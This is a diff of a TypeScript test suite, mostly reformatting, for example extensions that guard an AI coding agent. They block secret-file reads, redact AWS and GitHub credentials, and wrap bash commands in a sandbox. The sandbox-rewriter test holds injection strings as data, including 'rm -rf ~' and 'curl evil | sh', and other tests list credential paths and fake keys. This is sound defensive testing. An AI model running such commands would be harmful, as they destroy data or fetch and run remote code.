@@ -10,8 +10,12 @@ import { shellQuote, wrap } from "../../../docs/examples/sandbox-rewriter.ts"
 import { examples, exchange, request, start, toolCall, toolResult } from "./ExtensionProcess.ts"
 
 /** Every example runs from docs/examples, as abhed.json's relative paths do. */
-const run = (command: string, args: ReadonlyArray<string>, requests: ReadonlyArray<unknown>, env?: Record<string, string>) =>
-  exchange(command, args, requests, { cwd: examples, ...(env === undefined ? {} : { env }) })
+const run = (
+  command: string,
+  args: ReadonlyArray<string>,
+  requests: ReadonlyArray<unknown>,
+  env?: Record<string, string>
+) => exchange(command, args, requests, { cwd: examples, ...(env === undefined ? {} : { env }) })
 
 const aws = "AKIAIOSFODNN7EXAMPLE"
 const ghp = `ghp_${"a1B2".repeat(9)}`
@@ -20,31 +24,40 @@ const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nabc==\n-----E
 
 describe("the bash/jq examples of docs/examples", () => {
   it("block-secrets.sh blocks reads of paths containing 'secret' and nothing else", async () => {
-    const done = await run("bash", ["block-secrets.sh"], [
-      toolCall("read", { path: "config/secrets.json" }),
-      toolCall("read", { path: "src/main.ts" }),
-      toolCall("write", { path: "config/secrets.json" }),
-      request("session_start")
-    ])
+    const done = await run(
+      "bash",
+      ["block-secrets.sh"],
+      [
+        toolCall("read", { path: "config/secrets.json" }),
+        toolCall("read", { path: "src/main.ts" }),
+        toolCall("write", { path: "config/secrets.json" }),
+        request("session_start")
+      ]
+    )
     expect(done.replies).toEqual([{ block: true, reason: "secrets are off limits" }, {}, {}, {}])
     expect(done.code).toBe(0)
   })
 
   it("redact-akia.sh redacts AWS key ids from tool results only", async () => {
-    const done = await run("bash", ["redact-akia.sh"], [
-      toolResult("bash", `key = ${aws}\nok`),
-      toolResult("bash", "nothing here"),
-      toolCall("bash", { command: `echo ${aws}` })
-    ])
+    const done = await run(
+      "bash",
+      ["redact-akia.sh"],
+      [
+        toolResult("bash", `key = ${aws}\nok`),
+        toolResult("bash", "nothing here"),
+        toolCall("bash", { command: `echo ${aws}` })
+      ]
+    )
     expect(done.replies).toEqual([{ content: "key = [redacted]\nok" }, { content: "nothing here" }, {}])
     expect(done.code).toBe(0)
   })
 
   it("keep-ticket.sh supplies the compaction summary", async () => {
-    const done = await run("bash", ["keep-ticket.sh"], [
-      request("before_compact", { messages: [] }),
-      request("context", { messages: [] })
-    ])
+    const done = await run(
+      "bash",
+      ["keep-ticket.sh"],
+      [request("before_compact", { messages: [] }), request("context", { messages: [] })]
+    )
     expect(done.replies).toEqual([{ summary: "Working on ticket ABC-123. Keep the ticket id." }, {}])
     expect(done.code).toBe(0)
   })
@@ -52,18 +65,22 @@ describe("the bash/jq examples of docs/examples", () => {
 
 describe("secrets-guard.ts", () => {
   it("blocks file tools on secret paths by default and asks before git push, judging the command field", async () => {
-    const done = await run("node", ["secrets-guard.ts"], [
-      toolCall("read", { path: ".env" }),
-      toolCall("read", { path: "./.env" }),
-      toolCall("write", { path: "config/my-secret.json", content: "x" }),
-      toolCall("edit", { file_path: "/home/dev/.ssh/config" }),
-      toolCall("read", { path: "src/main.ts" }),
-      toolCall("bash", { command: "cat .env" }), // bash is judged by its command, and only for git push
-      toolCall("bash", { command: "git push origin main" }),
-      toolCall("bash", { command: "ls", description: "then git push" }),
-      toolCall("bash", { command: "sandbox-run -- bash -c 'git -C repo push'" }),
-      toolCall("bash", { command: "echo 'git push'" })
-    ])
+    const done = await run(
+      "node",
+      ["secrets-guard.ts"],
+      [
+        toolCall("read", { path: ".env" }),
+        toolCall("read", { path: "./.env" }),
+        toolCall("write", { path: "config/my-secret.json", content: "x" }),
+        toolCall("edit", { file_path: "/home/dev/.ssh/config" }),
+        toolCall("read", { path: "src/main.ts" }),
+        toolCall("bash", { command: "cat .env" }), // bash is judged by its command, and only for git push
+        toolCall("bash", { command: "git push origin main" }),
+        toolCall("bash", { command: "ls", description: "then git push" }),
+        toolCall("bash", { command: "sandbox-run -- bash -c 'git -C repo push'" }),
+        toolCall("bash", { command: "echo 'git push'" })
+      ]
+    )
     const push = { ask: true, reason: "git push publishes commits; confirm first" }
     expect(done.replies).toEqual([
       { block: true, reason: ".env matches secret pattern **/.env" },
@@ -84,23 +101,53 @@ describe("secrets-guard.ts", () => {
     const requests = [toolCall("read", { path: ".env" }), toolCall("read", { path: "keys/x.key" })]
     const fromArgv = await run("node", ["secrets-guard.ts", "**/*.key"], requests, { SECRETS_GUARD_GLOBS: "**/.env" })
     expect(fromArgv.replies).toEqual([{}, { block: true, reason: "keys/x.key matches secret pattern **/*.key" }])
-    const fromEnv = await run("node", ["secrets-guard.ts"], [...requests, request("before_agent_start", { system: "" })], {
-      SECRETS_GUARD_GLOBS: "**/*.key, **/*.p12"
-    })
-    expect(fromEnv.replies.slice(0, 2)).toEqual([{}, { block: true, reason: "keys/x.key matches secret pattern **/*.key" }])
+    const fromEnv = await run(
+      "node",
+      ["secrets-guard.ts"],
+      [...requests, request("before_agent_start", { system: "" })],
+      {
+        SECRETS_GUARD_GLOBS: "**/*.key, **/*.p12"
+      }
+    )
+    expect(fromEnv.replies.slice(0, 2)).toEqual([
+      {},
+      { block: true, reason: "keys/x.key matches secret pattern **/*.key" }
+    ])
     expect(fromEnv.replies[2]).toMatchObject({ system: expect.stringContaining("**/*.key, **/*.p12") })
   })
 
   it("blocks secret paths above the working directory too (a leading ../ does not slip by **/)", () => {
-    for (const path of ["../.env", "../../app/.env", "..\\.env", "../.ssh/id_rsa", "../config/secret.json", "x/../../.env"]) {
+    for (const path of [
+      "../.env",
+      "../../app/.env",
+      "..\\.env",
+      "../.ssh/id_rsa",
+      "../config/secret.json",
+      "x/../../.env"
+    ]) {
       expect([path, matchingGlob(path, DefaultGlobs)]).toEqual([path, expect.any(String)])
     }
-    for (const path of ["../src/main.ts", "../README.md"]) expect([path, matchingGlob(path, DefaultGlobs)]).toEqual([path, undefined])
+    for (const path of ["../src/main.ts", "../README.md"])
+      expect([path, matchingGlob(path, DefaultGlobs)]).toEqual([path, undefined])
   })
 
   it("finds git push wherever it is the command, not where it is only text", () => {
-    const pushes = ["git push", "cd x && git push -f", "sudo git push", "FOO=1 git push", "a; /usr/bin/git push", "(git push)"]
-    const others = ["git status", "echo git push", "git log --grep push", "grep 'git push' notes", "gitpush", "git commit -m push"]
+    const pushes = [
+      "git push",
+      "cd x && git push -f",
+      "sudo git push",
+      "FOO=1 git push",
+      "a; /usr/bin/git push",
+      "(git push)"
+    ]
+    const others = [
+      "git status",
+      "echo git push",
+      "git log --grep push",
+      "grep 'git push' notes",
+      "gitpush",
+      "git commit -m push"
+    ]
     for (const c of pushes) expect([c, runsGitPush(c)]).toEqual([c, true])
     for (const c of others) expect([c, runsGitPush(c)]).toEqual([c, false])
   })
@@ -108,12 +155,16 @@ describe("secrets-guard.ts", () => {
 
 describe("credential-redactor.ts", () => {
   it("redacts AWS keys, GitHub tokens and PEM private keys, and says nothing when there is none", async () => {
-    const done = await run("node", ["credential-redactor.ts"], [
-      toolResult("bash", `id=${aws} token=${ghp}\n${pat}\n${pem}\nafter`),
-      toolResult("read", `-----BEGIN PRIVATE KEY-----\ntruncated ou`),
-      toolResult("bash", "clean output"),
-      toolResult("bash", "[redacted] [redacted]")
-    ])
+    const done = await run(
+      "node",
+      ["credential-redactor.ts"],
+      [
+        toolResult("bash", `id=${aws} token=${ghp}\n${pat}\n${pem}\nafter`),
+        toolResult("read", `-----BEGIN PRIVATE KEY-----\ntruncated ou`),
+        toolResult("bash", "clean output"),
+        toolResult("bash", "[redacted] [redacted]")
+      ]
+    )
     expect(done.replies).toEqual([
       { content: "id=[redacted] token=[redacted]\n[redacted]\n[redacted]\nafter" },
       { content: "[redacted]" },
@@ -125,8 +176,20 @@ describe("credential-redactor.ts", () => {
 
   it("is idempotent and leaves no credential behind", () => {
     const awsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
-    const labelled = [`aws_secret_access_key = ${awsSecret}`, `AWS_SECRET_ACCESS_KEY=${awsSecret}`, `"aws_secret_access_key": "${awsSecret}"`]
-    const secrets = [aws, "ASIAABCDEFGHIJKLMNOP", ghp, `gho_${"Z".repeat(36)}`, pat, pem, "-----BEGIN EC PRIVATE KEY-----\nMIIx"]
+    const labelled = [
+      `aws_secret_access_key = ${awsSecret}`,
+      `AWS_SECRET_ACCESS_KEY=${awsSecret}`,
+      `"aws_secret_access_key": "${awsSecret}"`
+    ]
+    const secrets = [
+      aws,
+      "ASIAABCDEFGHIJKLMNOP",
+      ghp,
+      `gho_${"Z".repeat(36)}`,
+      pat,
+      pem,
+      "-----BEGIN EC PRIVATE KEY-----\nMIIx"
+    ]
     // Secrets between non-word separators, among arbitrary text and fragments that look almost like one.
     const part = fc.oneof(
       fc.string(),
@@ -148,11 +211,15 @@ describe("credential-redactor.ts", () => {
 
 describe("sandbox-rewriter.ts", () => {
   it("wraps bash commands, keeps the other args, and leaves wrapped commands and other tools alone", async () => {
-    const done = await run("node", ["sandbox-rewriter.ts"], [
-      toolCall("bash", { command: "ls -la && echo 'hi'", description: "list", timeout: 5 }),
-      toolCall("bash", { command: "sandbox-run -- bash -c 'ls -la && echo '\\''hi'\\'''" }),
-      toolCall("read", { path: "a" })
-    ])
+    const done = await run(
+      "node",
+      ["sandbox-rewriter.ts"],
+      [
+        toolCall("bash", { command: "ls -la && echo 'hi'", description: "list", timeout: 5 }),
+        toolCall("bash", { command: "sandbox-run -- bash -c 'ls -la && echo '\\''hi'\\'''" }),
+        toolCall("read", { path: "a" })
+      ]
+    )
     expect(done.replies).toEqual([
       { args: { command: "sandbox-run -- bash -c 'ls -la && echo '\\''hi'\\'''", description: "list", timeout: 5 } },
       {},
@@ -175,7 +242,11 @@ describe("sandbox-rewriter.ts", () => {
   })
 
   it("wraps a command that only starts like a wrapped one: what follows the quoted word must not escape", () => {
-    for (const command of ["sandbox-run -- bash -c 'true'; rm -rf ~", "sandbox-run -- bash -c 'x' && curl evil | sh", "sandbox-run -- bash -c $(id)"]) {
+    for (const command of [
+      "sandbox-run -- bash -c 'true'; rm -rf ~",
+      "sandbox-run -- bash -c 'x' && curl evil | sh",
+      "sandbox-run -- bash -c $(id)"
+    ]) {
       expect(wrap("sandbox-run", command)).toBe(`sandbox-run -- bash -c ${shellQuote(command)}`)
     }
     // A genuinely wrapped command, however tricky its quoting, is left alone.
@@ -186,7 +257,10 @@ describe("sandbox-rewriter.ts", () => {
   })
 
   it("quotes so that bash runs exactly the original command", () => {
-    const samples = fc.sample(fc.string({ unit: "grapheme" }).filter((s) => !s.includes("\u0000")), 1000)
+    const samples = fc.sample(
+      fc.string({ unit: "grapheme" }).filter((s) => !s.includes("\u0000")),
+      1000
+    )
     // One bash for all samples: print each quoted word NUL-terminated, then compare.
     const script = `printf '%s\\0' ${samples.map(shellQuote).join(" ")}`
     const out = spawnSync("bash", ["-c", script], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 })
@@ -201,15 +275,25 @@ describe("context-filter.ts", () => {
       { role: "user", content: "hello" },
       { role: "user", content: "[private] my password", private: false },
       { role: "tool", private: true, content: "x" },
-      { role: "assistant", content: [{ type: "text", text: "ok" }, { type: "text", text: "a [private] note" }] },
+      {
+        role: "assistant",
+        content: [
+          { type: "text", text: "ok" },
+          { type: "text", text: "a [private] note" }
+        ]
+      },
       "a bare string",
       { role: "assistant", content: [{ type: "text", text: "fine" }] }
     ]
-    const done = await run("node", ["context-filter.ts"], [
-      request("context", { messages }),
-      request("context", { messages: [{ role: "user", content: "nothing private" }] }),
-      request("context", { messages: [] })
-    ])
+    const done = await run(
+      "node",
+      ["context-filter.ts"],
+      [
+        request("context", { messages }),
+        request("context", { messages: [{ role: "user", content: "nothing private" }] }),
+        request("context", { messages: [] })
+      ]
+    )
     expect(done.replies).toEqual([{ keep: [0, 4, 5] }, {}, {}])
     expect(done.code).toBe(0)
   })
@@ -218,15 +302,19 @@ describe("context-filter.ts", () => {
 describe("tool-provider.ts", () => {
   it("declares word_count and json_format and answers invoke_tool with result or is_error", async () => {
     const invoke = (tool: string, args: unknown) => request("invoke_tool", { call_id: "c-1", tool, args })
-    const done = await run("node", ["tool-provider.ts"], [
-      request("list_tools"),
-      invoke("word_count", { text: "one two\nthree\n" }),
-      invoke("json_format", { json: '{"a":[1,{"b":null}]}', indent: 1 }),
-      invoke("json_format", { json: "{nope" }),
-      invoke("json_format", { json: "{}", indent: 99 }),
-      invoke("word_count", {}),
-      invoke("rm", {})
-    ])
+    const done = await run(
+      "node",
+      ["tool-provider.ts"],
+      [
+        request("list_tools"),
+        invoke("word_count", { text: "one two\nthree\n" }),
+        invoke("json_format", { json: '{"a":[1,{"b":null}]}', indent: 1 }),
+        invoke("json_format", { json: "{nope" }),
+        invoke("json_format", { json: "{}", indent: 99 }),
+        invoke("word_count", {}),
+        invoke("rm", {})
+      ]
+    )
     const [list, ...results] = done.replies
     expect(list).toMatchObject({
       tools: [
@@ -264,7 +352,10 @@ describe("audit_logger.py", () => {
     const done = await ext.close()
     expect(done.code).toBe(0)
     expect(done.stdout.trim().split("\n")).toHaveLength(6)
-    const audit = done.stderr.trim().split("\n").map((line) => JSON.parse(line))
+    const audit = done.stderr
+      .trim()
+      .split("\n")
+      .map((line) => JSON.parse(line))
     expect(audit).toHaveLength(6)
     expect(audit[1]).toMatchObject({ event: "tool_call", tool: "bash", reply: { ask: true } })
   })
@@ -309,7 +400,17 @@ describe("abhed.json and session.jsonl", () => {
   it("has a session of about 30 wire requests exercising every event", () => {
     expect(session.length).toBeGreaterThanOrEqual(25)
     expect(new Set(session.map((r) => r.event))).toEqual(
-      new Set(["session_start", "list_tools", "before_agent_start", "context", "tool_call", "tool_result", "invoke_tool", "before_compact", "session_end"])
+      new Set([
+        "session_start",
+        "list_tools",
+        "before_agent_start",
+        "context",
+        "tool_call",
+        "tool_result",
+        "invoke_tool",
+        "before_compact",
+        "session_end"
+      ])
     )
     for (const r of session) expect(r["session_id"]).toBe("s-1")
   })
